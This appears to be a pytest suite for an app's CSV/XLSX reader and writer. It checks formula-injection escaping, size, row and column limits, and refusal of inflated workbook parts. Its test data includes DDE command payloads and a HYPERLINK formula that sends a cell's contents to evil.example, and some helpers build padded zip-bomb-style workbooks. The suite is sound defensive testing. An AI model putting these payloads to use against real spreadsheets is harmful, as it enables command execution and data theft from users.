"""Hostile and broken files: formula injection in CSV exports, cells, rows and workbook parts
beyond what Rendo reads, fields the csv module refuses, and delimiter detection that parses
quoted fields. Every refusal names file, row and column; none is a traceback."""

from __future__ import annotations

import csv
import io
import os
import stat
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from app.files import common, csv_io, xlsx_io
from app.files.common import FileRefused, column_letter
from app.files.values import CellProblem, code_text

# -- formula injection (OWASP's rule) -----------------------------------------------------------

HOSTILE = ["=CMD|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
           "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "'=A", "''+B", "+81-3-1234-5678", "-", "=", "@"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_cell_a_spreadsheet_would_run_gets_a_quote(tmp_path: Path, value: str) -> None:
    path = tmp_path / "x.csv"
    csv_io.write_csv(path, ["code", value], [[value, 1]], "utf-8-sig")
    text = path.read_bytes().decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header[1] == row[0] == "'" + value
    assert row[1] == "1"
    # Rendo reads its own file back as it was written
    table = csv_io.read_csv(path, delimiter=",")
    assert table.rows[0][1][1] == value and table.rows[1][1][0] == value


def test_numbers_and_harmless_text_are_written_as_they_are(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    values = [-3, "-3", "+5", "-1.5", 2.5, "00123", "it's", "'quoted'", "a=b", "", None]
    csv_io.write_csv(path, ["h"] * len(values), [values], "utf-8-sig")
    (_, row) = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))
    assert row == ["-3", "-3", "+5", "-1.5", "2.5", "00123", "it's", "'quoted'", "a=b", "", ""]


def test_neutralise_and_reading_back_are_exact_inverses() -> None:
    for value in [*HOSTILE, "'", "''", "'''=x", "x", "-3", "'-3", "''-3", "@a", "'@a"]:
        written = csv_io.neutralise(value)
        assert written[:1] not in csv_io.FORMULA_STARTS or written == value  # numbers only
        assert csv_io._unescape(written) == value


def test_xlsx_writes_formula_like_text_as_text_never_as_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    xlsx_io.write_xlsx(path, ["=HYPERLINK(\"http://evil\")", "b"],
                       [["=CMD|' /C calc'!A0", "@SUM(A1)"], ["+1", -3]], text_columns={0},
                       extra_sheets=[("more", [["=1+1"]])])
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if "worksheets/" in n]
    assert sheets and all(b"<f>" not in xml for xml in sheets)
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.active
    assert [(c.value, c.data_type) for c in sheet[1]] == [
        ('=HYPERLINK("http://evil")', "s"), ("b", "s")]
    assert [(c.value, c.data_type) for c in sheet[2]] == [
        ("=CMD|' /C calc'!A0", "s"), ("@SUM(A1)", "s")]
    assert (sheet["B3"].value, sheet["B3"].data_type) == (-3, "n")
    assert workbook["more"]["A1"].data_type == "s"
    assert xlsx_io.read_xlsx(path).rows[1][1] == ("=CMD|' /C calc'!A0", "@SUM(A1)")


# -- files are created like any other file: permissions follow the umask ------------------------

@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_written_files_follow_the_umask(tmp_path: Path, suffix: str) -> None:
    old = os.umask(0o022)
    try:
        path = tmp_path / f"x{suffix}"
        if suffix == ".csv":
            csv_io.write_csv(path, ["a"], [["1"]], "utf-8-sig")
        else:
            xlsx_io.write_xlsx(path, ["a"], [["1"]])
        assert stat.S_IMODE(path.stat().st_mode) == 0o644
        os.umask(0o027)
        path.unlink()
        csv_io.replace_atomically(path, b"x")
        assert stat.S_IMODE(path.stat().st_mode) == 0o640
    finally:
        os.umask(old)
    assert sorted(p.name for p in tmp_path.iterdir()) == [path.name]  # no temporary left


# -- CSV: delimiter detection, huge fields, wide rows --------------------------------------------

def test_a_quoted_multi_line_field_with_semicolons_does_not_make_the_delimiter_a_semicolon(
        tmp_path: Path) -> None:
    note = "\n".join(f"a;b;c;{i}" for i in range(20))
    text = "code,name,qty\n" + "".join(f'C{i},"{note}",{i}\n' for i in range(3))
    path = tmp_path / "x.csv"
    path.write_text(text, "utf-8")
    table = csv_io.read_csv(path)
    assert table.delimiter == ","
    assert [values for _, values in table.rows][1] == ("C0", note, "0")


def test_semicolon_and_tab_files_are_still_detected() -> None:
    assert csv_io.detect_delimiter('code;name\n1;"a,b"\n2;"c,d"\n') == ";"
    assert csv_io.detect_delimiter("code\tname\n1\ta,b;c\n") == "\t"
    assert csv_io.detect_delimiter("code\n1\n2\n") == ","


@pytest.mark.parametrize("length", [common.MAX_CELL_CHARS + 1, 200 * 1024, 300 * 1024])
@pytest.mark.parametrize("quoted", [False, True])
def test_a_huge_field_is_refused_with_row_and_column(tmp_path: Path, length: int,
                                                     quoted: bool) -> None:
    big = "x" * length
    field = f'"{big}"' if quoted else big
    path = tmp_path / "big.csv"
    path.write_text(f"code;name;qty\nA;n;1\nB;{field};2\nC;n;3\n", "utf-8")
    with pytest.raises(FileRefused) as caught:
        csv_io.read_csv(path)
    (problem,) = caught.value.problems
    assert (problem.file, problem.row, problem.column) == ("big.csv", 3, "B")
    assert str(common.MAX_CELL_CHARS) in problem.text()


def test_a_huge_field_in_the_first_row_is_refused_too(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    path.write_text("a," + "y" * (200 * 1024) + "\n", "utf-8")
    with pytest.raises(FileRefused) as caught:
        csv_io.read_csv(path)
    (problem,) = caught.value.problems
    assert (problem.row, problem.column) == (1, "B")


def test_a_csv_row_with_a_filled_cell_beyond_the_column_limit_is_refused(
        tmp_path: Path) -> None:
    path = tmp_path / "wide.csv"
    wide = ["x"] + [""] * (common.MAX_COLUMNS + 5)
    trailing = ",".join(wide)  # empty cells far right: ignored
    filled = ",".join([*wide, "boom"])
    path.write_text(f"code,qty\n{trailing}\n", "utf-8")
    table = csv_io.read_csv(path)
    assert len(table.rows[1][1]) == common.MAX_COLUMNS
    path.write_text(f"code,qty\nA,1\n{filled}\n", "utf-8")
    with pytest.raises(FileRefused) as caught:
        csv_io.read_csv(path)
    (problem,) = caught.value.problems
    assert (problem.row, problem.column) == (3, column_letter(len(wide)))


def test_too_many_rows_are_refused_while_reading(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_io, "MAX_ROWS", 5)
    path = tmp_path / "rows.csv"
    path.write_text("code,qty\n" + "".join(f"A{i},1\n" for i in range(10)), "utf-8")
    with pytest.raises(FileRefused) as caught:
        csv_io.read_csv(path)
    assert caught.value.problems[0].row == 6


def test_a_csv_file_beyond_the_size_limit_is_refused_before_it_is_read(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_io, "MAX_CSV_BYTES", 100)
    path = tmp_path / "large.csv"
    path.write_text("code,qty\n" + "A,1\n" * 50, "utf-8")
    with pytest.raises(FileRefused, match="large.csv"):
        csv_io.read_csv(path)


def test_a_code_longer_than_the_limit_is_refused() -> None:
    assert code_text("A" * 255) == "A" * 255
    with pytest.raises(CellProblem, match="at most 255"):
        code_text("A" * 256)
    with pytest.raises(CellProblem, match="at most 255"):
        code_text("=" + "A" * 300)  # the careful path too


# -- hostile .xlsx ------------------------------------------------------------------------------

def _workbook(path: Path, rows: list[list[object]]) -> Path:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    workbook.save(path)
    return path


def _patch(path: Path, part: str, change: object) -> None:
    """Rewrite one part of the zip at *path* with ``change(bytes) -> bytes``."""
    source = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(source)) as src, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == part:
                data = change(data)  # type: ignore[operator]
            dst.writestr(item.filename, data)


@pytest.fixture(params=[True, False], ids=["parser", "public-api"])
def use_parser(request: pytest.FixtureRequest) -> bool:
    return bool(request.param)


def test_a_cell_at_column_xfd_is_refused_and_an_empty_one_ignored(
        tmp_path: Path, use_parser: bool) -> None:
    path = _workbook(tmp_path / "wide.xlsx", [["code", "qty"], ["A", 1], ["B", 2]])
    cells = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>C</t></is></c>'
                     b'<c r="XFD%d" s="0"/></row>' % (n, n, n) for n in range(4, 2004))
    _patch(path, "xl/worksheets/sheet1.xml",
           lambda xml: xml.replace(b"</sheetData>", cells + b"</sheetData>")
           .replace(b'<dimension ref="A1:B3" />', b'<dimension ref="A1:XFD2003" />'))
    table = xlsx_io.read_xlsx(path, use_parser=use_parser)  # formatted, empty: ignored
    assert len(table.rows) == 2003 and max(len(v) for _, v in table.rows) <= common.MAX_COLUMNS
    _patch(path, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(
        b'<c r="XFD7" s="0"/>', b'<c r="XFD7" t="inlineStr"><is><t>boom</t></is></c>'))
    if not use_parser:  # the public API cannot see past the columns it is asked for
        table = xlsx_io.read_xlsx(path, use_parser=use_parser)
        assert max(len(v) for _, v in table.rows) <= common.MAX_COLUMNS
        return
    with pytest.raises(FileRefused) as caught:
        xlsx_io.read_xlsx(path, use_parser=use_parser)
    (problem,) = caught.value.problems
    assert (problem.file, problem.row, problem.column) == ("wide.xlsx", 7, "XFD")
    assert "XFD" in problem.text() and "AMJ" in problem.text()  # the last column read


_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
        '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
        '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.'
        'xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
        'sharedStrings+xml"/></Types>'),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target='
        '"xl/workbook.xml"/></Relationships>'),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.'
        'org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" r:id="rId1"/>'
        '</sheets></workbook>'),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target='
        '"worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.'
        'org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
        '</Relationships>'),
}
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _shared_strings_workbook(path: Path, rows: list[list[str]]) -> Path:
    """An .xlsx as Excel writes it: every text in the shared strings part."""
    strings: list[str] = []
    xml_rows = []
    for number, row in enumerate(rows, start=1):
        cells = []
        for index, value in enumerate(row):
            strings.append(value)
            cells.append(f'<c r="{column_letter(index)}{number}" t="s">'
                         f"<v>{len(strings) - 1}</v></c>")
        xml_rows.append(f'<row r="{number}">{"".join(cells)}</row>')
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}"><sheetData>'
             f'{"".join(xml_rows)}</sheetData></worksheet>')
    shared = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_MAIN}" '
              f'count="{len(strings)}" uniqueCount="{len(strings)}">'
              + "".join(f"<si><t>{s}</t></si>" for s in strings) + "</sst>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {**_PARTS, "xl/worksheets/sheet1.xml": sheet,
                           "xl/sharedStrings.xml": shared}.items():
            archive.writestr(name, text)
    return path


def test_a_hand_built_shared_strings_workbook_reads(tmp_path: Path, use_parser: bool) -> None:
    path = _shared_strings_workbook(tmp_path / "ok.xlsx", [["code", "qty"], ["A", "1"]])
    assert xlsx_io.read_xlsx(path, use_parser=use_parser).rows == [
        (1, ("code", "qty")), (2, ("A", "1"))]


def test_a_cell_longer_than_excel_allows_is_refused(tmp_path: Path, use_parser: bool) -> None:
    long = "L" * (common.MAX_CELL_CHARS + 1)
    path = _shared_strings_workbook(tmp_path / "long.xlsx",
                                    [["code", "qty"], ["A", "1"], ["B", long]])
    assert path.stat().st_size < 10_000  # small on disk
    with pytest.raises(FileRefused) as caught:
        xlsx_io.read_xlsx(path, use_parser=use_parser)
    (problem,) = caught.value.problems
    assert (problem.file, problem.row, problem.column) == ("long.xlsx", 3, "B")


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"])
def test_workbook_parts_that_unpack_beyond_the_limits_are_refused_before_openpyxl_reads_them(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, part: str) -> None:
    padding = " " * (3 * 1024 * 1024)  # 3 MB of blanks: a few KB on disk
    path = _shared_strings_workbook(tmp_path / "bomb.xlsx", [["code", "qty"], ["A", "1"]])
    if part == "xl/sharedStrings.xml":
        path = _shared_strings_workbook(tmp_path / "bomb.xlsx",
                                        [["code", "qty"], ["A" + padding, "1"]])
        monkeypatch.setattr(xlsx_io, "MAX_PART_XML_BYTES", 2 * 1024 * 1024)
    else:
        _patch(path, part, lambda xml: xml.replace(b"<sheetData>",
                                                   b"<sheetData>" + padding.encode()))
        monkeypatch.setattr(xlsx_io, "MAX_SHEET_XML_BYTES", 2 * 1024 * 1024)
    assert path.stat().st_size < 50_000
    monkeypatch.setattr(xlsx_io.openpyxl, "load_workbook",
                        lambda *a, **k: pytest.fail("openpyxl opened the workbook"))
    with pytest.raises(FileRefused) as caught:
        xlsx_io.read_xlsx(path)
    (problem,) = caught.value.problems
    assert problem.file == "bomb.xlsx" and part in problem.text()
    with pytest.raises(FileRefused):
        xlsx_io.sheet_names(path)


def test_too_many_xlsx_rows_are_refused_while_reading(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, use_parser: bool) -> None:
    monkeypatch.setattr(xlsx_io, "MAX_ROWS", 5)
    path = _workbook(tmp_path / "rows.xlsx", [["code", "qty"], *([f"A{i}", 1] for i in range(9))])
    with pytest.raises(FileRefused) as caught:
        xlsx_io.read_xlsx(path, use_parser=use_parser)
    assert caught.value.problems[0].row == 6
